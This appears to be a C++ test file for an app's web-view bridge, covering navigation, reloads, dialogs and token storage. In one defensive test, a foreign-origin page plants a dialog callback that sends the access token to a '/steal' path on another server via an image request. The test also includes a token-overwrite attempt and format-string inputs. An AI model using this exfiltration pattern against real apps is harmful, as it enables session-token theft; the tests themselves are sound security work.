// The web screens and their bridge, driven from the sample pages of the stand-in back end.
#include <functional>

#include "app/screens/tests/WebScreenFixture.h"
#include "app/tools/SaveService.h"
#include "platform/uikit/UIActionSheet.h"
#include "platform/uikit/UIAlertView.h"
#include "platform/foundation/Console.h"
#include "refresh/PRRefreshHeader.h"
#include "testsupport/LoopbackServer.h"

namespace {

[[maybe_unused]] const auto* const kSandbox = ::testing::AddGlobalTestEnvironment(new AppSandbox());

std::optional<std::string> storedString(const std::string& key) {
    auto value = NSUserDefaults::standardUserDefaults()->objectForKey(key);
    if (!value || !value->isString()) return std::nullopt;
    return *value->asString();
}

TEST(DialogCallbackScript, PutsTheIndexInWithoutReadingThePageAsAFormat) {
    const struct { const char* callback; long index; const char* script; } cases[] = {
        {"pick(%@, %@)", 2, "pick(2, 2)"},
        {"x('%d %s %n %1$@')", 1, "x('%d %s %n %1$@')"},
        {"tail%", 3, "tail%"},
        {"%%@", 4, "%@"},
    };
    for (const auto& c : cases) {
        EXPECT_EQ(AppDialogCallbackScript(c.callback, c.index), c.script) << c.callback;
    }
}

using WebScreens = WebScreenTest;

TEST_F(WebScreens, BridgeCallsFromThePageOpenScreensOnTheMainQueue) {
    struct Case {
        const char* script;
        size_t depth;       // screens on the stack afterwards
        const char* title;  // of the top screen
        bool webScreen;     // the top screen is a web screen opened by the main screen
        bool hidesNav;
        const char* page;  // the web screen's address (page of the back end)
        bool signsOut;     // AccessToken is "" afterwards
    } cases[] = {
        {"openDetail()", 2, "Detail", true, false, "detail.html", false},
        {"openDetailBare()", 2, "", true, true, "detail.html", false},
        {"openSettings()", 2, "SettingViewController", false, false, "", false},
        {"openSignIn()", 2, "LoginViewController", false, false, "", true},
        {"signOut()", 2, "LoginViewController", false, false, "", true},
        {"openNothing(); app.push('', 'quorvane://open?mode'); app.push('', 'quorvane://open?mode=9');"
         "app.push('Files', 'ftp://example.com/')", 1, "", false, false, "", false},
        {"openDialogs()", 2, "", true, true, "dialogs.html", false},
        // Only an address a screen can load is pushed.
        {"app.pushWithUrl(''); app.pushWithUrl(null); app.pushWithUrl('ftp://example.com/');"
         "app.pushWithUrl('http://'); app.pushWithUrl('detail.html')", 1, "", false, false, "", false},
        // "sarnquil://" addresses are never loaded; "login" signs out.
        {"location.href = 'sarnquil://elsewhere'", 1, "", false, false, "", false},
        {"location.href = 'sarnquil://login'", 2, "LoginViewController", false, false, "", true},
    };
    showMainScreen();
    auto main = top();
    for (const auto& c : cases) {
        SCOPED_TRACE(c.script);
        SaveService::setObject(Value("token-1"), kSaveServiceAccessTokenKey);
        top()->webView()->stringByEvaluatingJavaScriptFromString(c.script);
        EXPECT_EQ(navigation_->viewControllers().size(), 1u);  // not before the main queue turns
        settle();
        NSRunLoop::main().runUntil([&] {  // a navigation reaches the screen once the page's timer has run
            return navigation_->viewControllers().size() == c.depth &&
                   (!strstr(c.script, "sarnquil") || main->urlStr().rfind("sarnquil", 0) == 0);
        }, kPageWait);
        settle();
        ASSERT_EQ(navigation_->viewControllers().size(), c.depth);
        auto shown = navigation_->topViewController();
        EXPECT_EQ(storedString(kSaveServiceAccessTokenKey), c.signsOut ? "" : "token-1");
        if (c.depth > 1) {
            EXPECT_EQ(shown->title(), c.title);
            EXPECT_TRUE(shown->navigationItem()->leftBarButtonItem());  // the back button
        }
        auto web = std::dynamic_pointer_cast<UrlMainViewController>(shown);
        EXPECT_EQ(bool(web), c.webScreen);
        if (web) {
            EXPECT_EQ(web->isHideNav(), c.hidesNav);
            EXPECT_EQ(navigation_->isNavigationBarHidden(), c.hidesNav);
            EXPECT_EQ(web->urlString(), pageURL(c.page));
            EXPECT_EQ(web->delegate(), std::static_pointer_cast<AppBaseDelegate>(main));
        }
        navigation_->popToRootViewControllerAnimated(Animated::No);
        settle();
        EXPECT_EQ(main->webView()->documentURL(), pageURL("#/"));
    }
    EXPECT_FALSE(main->navigationItem()->leftBarButtonItem());
    EXPECT_TRUE(navigation_->isNavigationBarHidden());
}

TEST_F(WebScreens, GoingBackReloadsTheOpenerOnlyWhenThePageAskedForIt) {
    struct Case {
        const char* name;
        std::function<void(WebScreenTest&)> leave;
        bool deeper;           // a third screen opened from the detail page first
        const char* reloaded;  // the page reloaded by leaving, or nullptr
    } cases[] = {
        {"pop", [](WebScreenTest& t) { t.run("back()"); }, false, nullptr},
        {"pop with refresh", [](WebScreenTest& t) { t.run("backAndRefresh()"); }, false, "/vqd_web/"},
        {"back button with refresh",
         [](WebScreenTest& t) {
             t.run("app.setIsRefresh(true)");
             t.top()->navigationItem()->leftBarButtonItem()->sendAction();
             t.settle();
         },
         false, "/vqd_web/"},
        {"popToRoot with refresh", [](WebScreenTest& t) { t.run("homeAndRefresh()"); }, true,
         "/vqd_web/detail.html"},
    };
    showMainScreen();
    auto main = top();
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        run("openDetail()");
        ASSERT_TRUE(waitForPage(top()));
        auto detail = top();  // kept, so that a reload it is asked for runs even once it is popped
        if (c.deeper) {
            run("deeper()");
            ASSERT_TRUE(waitForPage(top()));
            EXPECT_EQ(top()->delegate(), std::static_pointer_cast<AppBaseDelegate>(detail));
        }
        const size_t mainHits = server_->hits("/vqd_web/");
        const size_t detailHits = server_->hits("/vqd_web/detail.html");
        c.leave(*this);
        EXPECT_EQ(navigation_->viewControllers().size(), 1u);
        if (c.reloaded) {
            const size_t before = std::string(c.reloaded) == "/vqd_web/" ? mainHits : detailHits;
            EXPECT_TRUE(waitForHits(c.reloaded, before + 1));
        } else {
            EXPECT_FALSE(main->webView()->isLoading());
            EXPECT_EQ(server_->hits("/vqd_web/"), mainHits);
            EXPECT_EQ(server_->hits("/vqd_web/detail.html"), detailHits);
        }
        ASSERT_TRUE(waitForPage(main));
    }
}

TEST_F(WebScreens, RefreshAndPullReloadThePageUnlessPullingWasStopped) {
    const auto pull = [](WebScreenTest& t) { t.top()->webView()->scrollView()->drag({0, 120}, 4); };
    const struct { const char* name; std::function<void(WebScreenTest&)> act; bool reloads; } cases[] = {
        {"refresh", [](WebScreenTest& t) { t.run("reloadPage()"); }, true},
        {"pull", pull, true},
        {"pull after stopSwipeRefresh", [&](WebScreenTest& t) { t.run("stopPull()"); pull(t); }, false},
    };
    showMainScreen();
    auto scroll = top()->webView()->scrollView();
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        const size_t hits = server_->hits("/vqd_web/");
        c.act(*this);
        settle();
        if (c.reloads) {
            EXPECT_TRUE(waitForHits("/vqd_web/", hits + 1));
            ASSERT_TRUE(waitForPage(top()));
        } else {
            EXPECT_FALSE(top()->webView()->isLoading());
            EXPECT_EQ(server_->hits("/vqd_web/"), hits);
        }
        ASSERT_TRUE(pr_header(scroll));
        EXPECT_EQ(pr_header(scroll)->state(), PRRefreshState::Idle);
    }
}

// The token and the stored values serve the back end's own pages only: a page of another origin reads
// nothing, writes nothing, cannot sign the user out and cannot have a dialog's answer run in the back end's
// page it navigates to.
TEST_F(WebScreens, StoredValuesAndTheTokenServeOnlyTheBackEndsOwnPages) {
    auto other = startDevServer();  // another origin: the same pages on another port
    struct Case {
        bool foreign;
        const char* script;
        const char* result;
        const char* key;     // checked in the store afterwards (nullptr: nothing to check)
        const char* stored;  // its value there (nullptr: absent)
    } cases[] = {
        {false, "String(app.getAccessToken())", "null", nullptr, nullptr},
        {false, "app.setWebCash('greeting', 'hello'); app.getWebCash('greeting')", "hello", "greeting", "hello"},
        {false, "app.setWebCash('a.b', '1'); app.getWebCash('a.b')", "1", "a.b", "1"},
        {false, "app.setWebCash('AccessToken', 'tok')", "", "AccessToken", "tok"},
        {false, "String(app.getAccessToken())", "tok", "AccessToken", "tok"},
        {true, "String(app.getAccessToken())", "null", "AccessToken", "tok"},
        {true, "app.setWebCash('AccessToken', 'evil'); app.getWebCash('AccessToken')", "", "AccessToken", "tok"},
        {true, "app.setWebCash('planted', 'x')", "", "planted", nullptr},
        {true, "app.toLogin()", "", "AccessToken", "tok"},
        {true, "location.href = 'sarnquil://login'", "sarnquil://login", nullptr, nullptr},
    };
    showMainScreen();
    auto main = top();
    run("app.pushWithUrl('" + other->url("/vqd_web/storage.html") + "')");
    auto foreign = top();
    ASSERT_NE(foreign, main);
    ASSERT_TRUE(waitForPage(foreign));
    for (const auto& c : cases) {
        SCOPED_TRACE(c.script);
        auto screen = c.foreign ? foreign : main;
        EXPECT_EQ(screen->webView()->stringByEvaluatingJavaScriptFromString(c.script), c.result);
        settle();
        if (c.key) {
            EXPECT_EQ(storedString(c.key), c.stored ? std::optional<std::string>(c.stored) : std::nullopt);
        }
    }
    ASSERT_TRUE(NSRunLoop::main().runUntil([&] { return foreign->urlStr() == "sarnquil://login"; }, kPageWait));
    settle();
    EXPECT_EQ(storedString(kSaveServiceAccessTokenKey), "tok");
    EXPECT_EQ(navigation_->viewControllers().size(), 2u);

    // The foreign page's dialog is answered once its screen shows the back end's page: the answer is dropped.
    Console::Capture capture;
    run("app.alert('Win', '', 'No', 'Yes', \"new Image().src = '" + other->url("/steal") +
        "?t=' + app.getAccessToken()\"); location.href = '" + pageURL("storage.html") + "'");
    ASSERT_TRUE(NSRunLoop::main().runUntil(
        [&] { return foreign->webView()->documentURL() == pageURL("storage.html") && !foreign->webView()->isLoading(); },
        kPageWait));
    ASSERT_TRUE(UIDialogs::press(1));
    settle();
    EXPECT_EQ(run("String(app.getAccessToken())"), "tok");
    NSRunLoop::main().runUntil([] { return false; }, 0.5);
    EXPECT_EQ(other->hits("/steal"), 0u);
    EXPECT_TRUE(capture.contains("dropped"));
}

TEST_F(WebScreens, ADialogClickRunsTheLatestCallbackInThePage) {
    struct Case {
        const char* ask;
        std::vector<std::string> buttons;
        std::vector<long> presses;  // in turn, each on the dialog then showing
        const char* answer;         // lastDialog + " " + lastChoice afterwards
    } cases[] = {
        {"askAlert()", {"Cancel", "Delete"}, {1}, "alert 1"},
        {"askSheet()", {"Remove", "Copy link", "Cancel"}, {2}, "sheet 2"},
        {"askQuietly()", {"Close", "OK"}, {1}, " null"},
        {"app.alert('A', '', 'No', 'Yes', 'choose(\"first\", %@)');"
         "app.alert('B', '', 'No', 'Yes', 'choose(\"second\", %@)')",
         {"No", "Yes"},
         {1, 0},
         "second 0"},
        {"app.alert('T', 'm', null, 'Yes', 'choose(\"nocancel\", %@)')", {"Yes"}, {0}, "nocancel 0"},
        {"app.alert('T', 'm', null, null, 'choose(\"bare\", %@)')", {"确定"}, {0}, "bare 0"},
        {"app.actionSheet('T', null, null, null, 'choose(\"bare sheet\", %@)')", {"确定"}, {0}, "bare sheet 0"},
    };
    showMainScreen();
    run("openDialogs()");
    ASSERT_TRUE(waitForPage(top()));
    for (const auto& c : cases) {
        SCOPED_TRACE(c.ask);
        run("lastDialog = ''; lastChoice = null;");
        run(c.ask);
        for (long index : c.presses) {
            ASSERT_TRUE(UIDialogs::visible());
            EXPECT_EQ(UIDialogs::buttonTitles(), c.buttons);
            ASSERT_TRUE(UIDialogs::press(index));
            settle();
        }
        EXPECT_FALSE(UIDialogs::visible());
        EXPECT_EQ(run("lastDialog + ' ' + lastChoice"), c.answer);
    }
    run("tip()");
    ASSERT_TRUE(UIDialogs::visible());
    EXPECT_EQ(UIDialogs::visible()->dialogTitle(), "提示");
    EXPECT_EQ(UIDialogs::visible()->dialogMessage(), "Saved");
    EXPECT_EQ(UIDialogs::buttonTitles(), std::vector<std::string>{"确定"});
}

TEST_F(WebScreens, AScreenClosedWhileItsPageLoadsTakesItsLoadOffTheHUD) {
    LoopbackServer stalled;
    LoopbackReply never = LoopbackReply::text("");
    never.delay = 60;
    stalled.reply("/never", never);
    auto hud = THProgressHUD::shareInstancetype();
    std::vector<std::shared_ptr<UrlMainViewController>> screens;
    for (int i = 0; i < 3; ++i) {
        auto screen = UrlMainViewController::create();
        screen->setUrlString(stalled.url("/never"));
        screen->loadViewIfNeeded();
        screens.push_back(screen);
    }
    ASSERT_TRUE(NSRunLoop::main().runUntil([&] { return hud->loadingCount() == 3; }, kPageWait));
    for (int left = 2; left >= 0; --left) {
        screens.pop_back();
        EXPECT_EQ(hud->loadingCount(), left);
    }
}

}  // namespace
